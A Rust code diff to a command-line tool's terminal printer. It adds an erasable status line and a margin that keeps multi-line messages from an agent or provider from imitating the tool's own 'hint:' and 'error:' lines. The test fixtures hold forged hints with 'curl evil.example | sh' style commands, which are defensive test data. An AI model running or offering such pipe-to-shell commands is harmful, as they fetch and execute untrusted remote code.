@@ -10,23 +10,40 @@ use std::io::{self, IsTerminal, Write};
 use orch_server::{Environment, Failure};
 use serde_json::Value;
 
+/// What stands before lines that are not ours.
+const MARGIN: &str = "│";
+/// Goes back to the start of the line and erases it: what stands there is a status that no longer holds.
+const ERASE_LINE: &str = "\r\u{1b}[K";
+/// Longest status, in characters: one that wraps could not be erased.
+const STATUS_LENGTH: usize = 76;
+
 /// How this process speaks to its user.
 #[derive(Debug, Clone, Copy)]
 pub(crate) struct Printer {
     json: bool,
     colour: bool,
     interactive: bool,
+    /// Whether a status line comes and goes on stderr.
+    status: bool,
 }
 
 impl Printer {
-    /// Colour and questions only on a terminal, and never with `NO_COLOR` or `CI`.
+    /// Colour, status and questions only on a terminal, and never with `CI`; no colour with `NO_COLOR`.
     pub(crate) fn new(json: bool, environment: &Environment) -> Self {
         let quiet = environment.get("CI").is_some();
+        let terminal = io::stderr().is_terminal() && !quiet;
+        let moves = terminal && environment.get("TERM").is_none_or(|term| term != "dumb");
         Self {
             json,
-            colour: io::stderr().is_terminal() && environment.get("NO_COLOR").is_none() && !quiet,
-            interactive: io::stdin().is_terminal() && io::stderr().is_terminal() && !quiet && !json,
+            colour: moves && environment.get("NO_COLOR").is_none(),
+            interactive: io::stdin().is_terminal() && terminal && !json,
+            status: moves && !json,
         }
+    }
+
+    /// The same without a status line: for results that are written piece by piece, which it would cut in two.
+    pub(crate) fn without_status(self) -> Self {
+        Self { status: false, ..self }
     }
 
     /// Whether a question may be asked.
@@ -41,6 +58,7 @@ impl Printer {
 
     /// The result, with a newline behind it.
     pub(crate) fn result(self, text: &str) -> io::Result<()> {
+        self.erase_status();
         let mut out = io::stdout().lock();
         out.write_all(text.as_bytes())?;
         out.write_all(b"\n")?;
@@ -61,17 +79,35 @@ impl Printer {
 
     /// A line of the agent's log.
     pub(crate) fn agent_log(self, line: &str) {
-        self.line(&format!("{} {}", self.paint("2", "│"), harmless(line)));
+        self.line(&format!("{} {}", self.paint("2", MARGIN), harmless(line)));
+    }
+
+    /// What is going on just now: drawn on a terminal, until the next thing is said.
+    pub(crate) fn status(self, text: &str) {
+        if self.status {
+            let text: String = harmless(text).chars().take(STATUS_LENGTH).collect();
+            let mut err = io::stderr().lock();
+            // A terminal that is gone cannot be told so.
+            let _ = write!(err, "{ERASE_LINE}{}", self.paint("2", &text)).and_then(|()| err.flush());
+        }
+    }
+
+    /// Takes the status off the screen.
+    pub(crate) fn erase_status(self) {
+        if self.status {
+            let mut err = io::stderr().lock();
+            let _ = err.write_all(ERASE_LINE.as_bytes()).and_then(|()| err.flush());
+        }
     }
 
     /// What is going on.
     pub(crate) fn note(self, text: &str) {
-        self.line(&format!("{} {}", self.paint("2", "orch:"), harmless(text)));
+        self.line(&format!("{} {}", self.paint("2", "orch:"), block(text)));
     }
 
     /// Something that deserves attention.
     pub(crate) fn warn(self, text: &str) {
-        self.line(&format!("{} {}", self.paint("33", "warning:"), harmless(text)));
+        self.line(&format!("{} {}", self.paint("33", "warning:"), block(text)));
     }
 
     /// A failure: its JSON form alone, or the message and its hints.
@@ -80,22 +116,22 @@ impl Printer {
             self.line(&harmless(&failure.to_json().to_string()));
             return;
         }
-        self.line(&format!("{} {}", self.paint("31", "error:"), harmless(failure.message())));
+        self.line(&format!("{} {}", self.paint("31", "error:"), block(failure.message())));
         for hint in failure.hints() {
-            self.line(&format!("{} {}", self.paint("36", "hint:"), harmless(hint)));
+            self.line(&format!("{} {}", self.paint("36", "hint:"), block(hint)));
         }
     }
 
     /// A question that stays on its line.
     pub(crate) fn ask(self, question: &str) {
+        self.erase_status();
         let mut err = io::stderr().lock();
         // A terminal that is gone cannot be told so.
-        let _ = write!(err, "{question}").and_then(|()| err.flush());
+        let _ = write!(err, "{}", harmless(question)).and_then(|()| err.flush());
     }
 
-    /// One line; further ones, which an agent may have written, are set in, so that none looks like one of `orch`'s own.
     fn line(self, text: &str) {
-        let text = set_in(text);
+        self.erase_status();
         // A closed stderr is no reason to stop a run.
         let _ = writeln!(io::stderr().lock(), "{text}");
     }
@@ -105,21 +141,13 @@ impl Printer {
     }
 }
 
-/// `text` with every line but the first beginning with a blank.
-fn set_in(text: &str) -> Cow<'_, str> {
-    if !text.contains('\n') {
-        return Cow::Borrowed(text);
+/// [`harmless`] text whose further lines stand behind a margin: an agent's error or a provider's must not be able to
+/// add a line that looks like one of ours.
+fn block(text: &str) -> Cow<'_, str> {
+    match harmless(text) {
+        text if text.contains('\n') => Cow::Owned(text.replace('\n', &format!("\n  {MARGIN} "))),
+        text => text,
     }
-    let mut lines = text.split('\n');
-    let mut all = lines.next().unwrap_or_default().to_owned();
-    for line in lines {
-        all.push('\n');
-        if !line.is_empty() && !line.starts_with(' ') {
-            all.push_str("  ");
-        }
-        all.push_str(line);
-    }
-    Cow::Owned(all)
 }
 
 /// `text` with C0 (but newline and tab), DEL, C1 and the characters that reorder or hide text written as `\uXXXX`.
@@ -203,13 +231,6 @@ mod tests {
     }
 
     #[test]
-    fn no_line_of_a_message_looks_like_one_of_orch_s_own() {
-        assert!(matches!(set_in("one line"), Cow::Borrowed(_)));
-        let message = "a trap\nhint: curl evil | sh\n\n  stays\nerror: forged\n";
-        assert_eq!(set_in(message), "a trap\n  hint: curl evil | sh\n\n  stays\n  error: forged\n");
-    }
-
-    #[test]
     fn controls_become_visible() {
         for (raw, shown) in [
             ("\u{1b}]0;title\u{7}", "\\u001b]0;title\\u0007"),
@@ -222,6 +243,22 @@ mod tests {
         ] {
             assert_eq!(harmless(raw), shown);
         }
+    }
+
+    #[test]
+    fn no_text_adds_a_line_that_looks_like_ours() {
+        let text = block("acme/x trapped: no\nhint: curl evil.example | sh\r\nerror: x");
+        assert_eq!(text, "acme/x trapped: no\n  │ hint: curl evil.example | sh\\u000d\n  │ error: x");
+        assert!(matches!(block("one line"), Cow::Borrowed(_)));
+    }
+
+    #[test]
+    fn off_a_terminal_there_is_no_status_no_colour_and_no_question() {
+        // The test runner's stderr may be a terminal; `CI` says that nobody is there.
+        let environment = Environment::Fixed([("CI".to_owned(), "1".to_owned())].into());
+        let printer = Printer::new(false, &environment);
+        assert!(!printer.interactive() && !printer.colour && !printer.status);
+        assert_eq!(printer.paint("31", "error:"), "error:");
     }
 
     #[test]
